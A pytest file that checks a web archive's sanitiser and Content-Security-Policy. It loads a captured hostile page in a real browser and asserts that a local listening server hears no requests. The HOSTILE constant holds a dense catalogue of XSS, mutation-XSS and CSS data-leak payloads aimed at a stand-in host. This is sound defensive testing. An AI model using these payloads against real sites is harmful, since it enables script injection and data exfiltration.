"""A hostile page in a real browser: it does nothing, and a server that listens for it hears nothing."""

from __future__ import annotations

import re
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import pytest

from archive.browse.safety import ARCHIVED_POLICY
from tests.browse.conftest import IN_BROWSER, served
from tests.browse.foreign import png

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.browse.conftest import Archive, Pages

pytestmark = IN_BROWSER

# T is the listening server; each names what it would ask of it
HOSTILE = """<!DOCTYPE html><html><head><title>quiet</title>
<base href="T/base/"><meta http-equiv="refresh" content="0;url=T/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'; report-uri T/report">
<link rel="stylesheet" href="T/sheet.css"><link rel="preload" as="image" href="T/preload"><link rel="icon" href="T/icon">
<link rel="dns-prefetch" href="T/dns"><link rel="preconnect" href="T"><link rel="prefetch" href="T/prefetch">
<link rel="stylesheet" href="kept.css"><link rel="manifest" href="T/manifest">
<style>@import url(T/import1.css); @import "T/import2.css"; @\\69mport url(T/import3.css);
@font-face { font-family: f; src: url(T/font) } body { background: url(T/body), \\75 rl(T/escaped); font-family: f }
input[value^="s"] { background: url(T/leak-s) } a[href^="T"] { background-image: image-set("T/set.png" 1x) }
#x { behavior: url(T/behavior); -moz-binding: url(T/binding); cursor: url(T/cursor), auto; content: url(T/content) }
@namespace url(T/namespace); @media all { p { list-style-image: url("T/list") } } .gongkai-hit { display: none !important }
td { visibility: hidden !important; width: expression(document.title='ran') } </style>
<style>p{color:red}</style><style>x</style ><script>document.title='ran'</script></head>
<body onload="document.title='ran'" background="T/background">
<script>document.title='ran'; fetch('T/fetch'); location='T/location'; top.location='T/top'; open('T/open'); alert(1)</script>
<script src="T/script.js"></script><noscript><img src="T/noscript"><p title="</noscript><img src=T/mxss onerror=alert(1)>">n</p></noscript>
<img src="T/img" onerror="document.title='ran'"><img srcset="T/srcset 2x" src="T/src"><img src="data:image/svg+xml,<svg onload=alert(1)>">
<picture><source srcset="T/source"><img src="T/picture"></picture><input type="image" src="T/input"><image src="T/image">
<svg onload="document.title='ran'"><script>document.title='ran'</script><image href="T/svg"/><use href="T/use#x"/>
<foreignObject><iframe src="T/foreign"></iframe></foreignObject><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>
<math><mtext><table><mglyph><style><img src=T/math onerror=alert(1)></style></mglyph></table></mtext></math>
<iframe src="T/frame"></iframe><iframe srcdoc="<script>top.document.title='ran'</script><img src='T/srcdoc'>"></iframe>
<iframe src="javascript:top.document.title='ran'"></iframe><iframe src="data:text/html,<img src='T/dataframe'>"></iframe>
<object data="T/object"><embed src="T/embed"></object><embed src="T/embed2" type="text/html"><applet code="T/applet"></applet>
<video src="T/video" poster="T/poster" autoplay></video><audio src="T/audio" autoplay></audio><track src="T/track">
<form action="T/form" method="post" id="f"><input name="secret" value="secret" autofocus onfocus="document.title='ran'">
<button id="b" formaction="T/formaction">go</button></form><isindex action="T/isindex">
<a id="js" href="javascript:document.title='ran'">js</a><a id="data" href="data:text/html,<script>alert(1)</script>">data</a>
<a id="out" href="T/link" ping="T/ping" target="_top">out</a><a id="tab" href=" java&#10;script:document.title='ran'">split</a>
<p style="background:url(T/inline);background:\\75rl('T/inline2')">p</p><p id="hit" class="gongkai-hit">not the place</p>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(T/overlay)">over</div>
<table background="T/table"><tr><td style="display:none">12</td></tr></table>
<marquee onstart="alert(1)">m</marquee><details open ontoggle="alert(1)"><summary>d</summary></details>
<template><img src="T/template"></template><portal src="T/portal"></portal><frameset><frame src="T/frameset"></frameset>
<img src="kept.png"><img src="lies.png"></body></html>"""
SHEET = '@import "T/imported.css"; h1 { background: url(T/kept) } </style><img src="T/breakout"><style> td { display: none !important }'


def staying(html: str) -> str:
    """The page without what would leave it before the rest is tried."""
    return re.sub(r"<meta http-equiv=.refresh[^>]*>|location='[^']*';|top\.", "", html)


class Listener(BaseHTTPRequestHandler):
    asked: tuple[str, ...] = ()

    def do_GET(self) -> None:
        type(self).asked += (self.path,)
        self.send_response(204)
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 - the base class names them

    def log_message(self, *_: Any) -> None:
        pass


@contextmanager
def listening() -> Iterator[tuple[str, type[Listener]]]:
    class Own(Listener):
        pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Own) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}", Own
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    """It may ask whom it likes: who hears of it is what is looked at."""
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    yield page
    page.close()


def watch(page: Any) -> list[str]:
    """What a quiet page never causes: dialogs, windows, downloads, errors of scripts."""
    seen: list[str] = []
    page.on("dialog", lambda dialog: seen.append(f"dialog {dialog.message}") or dialog.dismiss())  # type: ignore[func-returns-value]
    page.on("popup", lambda popup: seen.append(f"popup {popup.url}"))
    page.on("download", lambda download: seen.append(f"download {download.url}"))
    page.on("pageerror", lambda error: seen.append(f"error {error}"))
    return seen


@contextmanager
def unsafe(html: str, policy: str) -> Iterator[str]:
    """A server that hands the page out as it is."""

    class Unsafe(Listener):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Security-Policy", policy)
            self.end_headers()
            self.wfile.write(html.encode())

    with ThreadingHTTPServer(("127.0.0.1", 0), Unsafe) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/"
        finally:
            server.shutdown()
            thread.join()


def test_the_listener_hears_what_is_not_made_safe(page: Any) -> None:
    """Without our sanitiser and policy much is asked for: the other tests are not quiet by chance."""
    quiet = staying(HOSTILE).replace("alert(1)", "1").replace("open('T/open');", "")
    with (
        listening() as (trap, heard),
        unsafe(quiet.replace("T/", f"{trap}/"), "default-src * 'unsafe-inline'") as address,
    ):
        page.goto(address, wait_until="commit")
        page.wait_for_timeout(1000)
        assert page.title() == "ran"
    assert {"/sheet.css", "/img", "/fetch", "/frame", "/object"} <= set(heard.asked)


def hostile_archive(empty: Archive, trap: str) -> tuple[dict[str, Any], str]:
    """A capture of the page and the figure that is asked for in it."""

    def put(url: str, text: str | bytes, media_type: str = "text/html") -> dict[str, Any]:
        body = text.encode() if isinstance(text, str) else text
        return empty.capture(url, body.replace(b"T/", f"{trap}/".encode()), media_type)

    put(f"{trap}/base/kept.css", SHEET, "text/css")
    put(f"{trap}/base/kept.png", png(), "image/png")
    put(f"{trap}/base/lies.png", "<svg xmlns='http://www.w3.org/2000/svg'><image href='T/lie'/></svg>", "image/png")
    capture = put("http://a-example.gov.cn/", HOSTILE)
    report_id = empty.report(capture)
    place = {"kind": "cell", "table": 1, "row": 0, "cell": 0}
    empty.statistic(report_id, ("requests", "received", "total"), "12", place)
    return capture, f"report={report_id}&table_id=requests&line=received&column=total"


def test_a_hostile_page_does_nothing_and_reaches_nothing(page: Any, empty: Archive, browse: type[Pages]) -> None:
    with listening() as (trap, heard):
        capture, query = hostile_archive(empty, trap)
        seen = watch(page)
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        with served(browse(empty.data)) as address:
            url = f"{address}/-/snapshot/{capture['id']}?{query}"
            page.goto(url)
            frame = page.frame_locator("iframe.archived")
            cell = frame.locator("td.gongkai-hit")
            cell.wait_for()  # and is not hidden by any of its styles
            assert cell.inner_text() == "12"
            assert frame.locator(".gongkai-hit").count() == 1
            picture = frame.locator("img").first
            assert picture.evaluate("image => image.naturalWidth") == 40
            for name in ("js", "data", "out", "tab"):
                frame.locator(f"#{name}").dispatch_event("click")
            page.wait_for_timeout(500)
            assert page.url == url
            for one in ("", "?styles=0"):  # on its own, without the frame's sandbox
                page.goto(f"{address}/-/snapshot/{capture['id']}/document{one}")
                page.wait_for_timeout(300)
                assert page.title() in ("", "quiet")
            assert page.evaluate("1 + 1") == 2  # the debugger's own script runs: the page could have run too
        assert [one for one in asked if not one.startswith(address)] == []
        assert {one.rpartition("/")[2] for one in asked if "/picture" in one} == {"picture"}
        assert heard.asked == ()
        assert seen == []


def test_the_policy_alone_keeps_an_unsanitised_page_from_others(page: Any) -> None:
    """Were the sanitiser to miss something, the headers of the frame would hold."""
    with listening() as (trap, heard), unsafe(staying(HOSTILE).replace("T/", f"{trap}/"), ARCHIVED_POLICY) as address:
        seen = watch(page)
        page.goto(address)
        page.wait_for_timeout(700)
        assert page.title() == "quiet"
        assert heard.asked == ()
        assert seen == []


def test_the_pictures_policy_holds_for_a_picture_opened_by_itself(
    page: Any, empty: Archive, browse: type[Pages]
) -> None:
    with listening() as (trap, heard):
        hostile_archive(empty, trap)
        ids = [row["id"] for row in empty.database.query("select id from captures where media_type = 'image/png'")]
        seen = watch(page)
        with served(browse(empty.data)) as address:
            for key in ids:
                page.goto(f"{address}/-/snapshot/{key}/picture")
                page.wait_for_timeout(200)
        assert heard.asked == ()
        assert seen == []
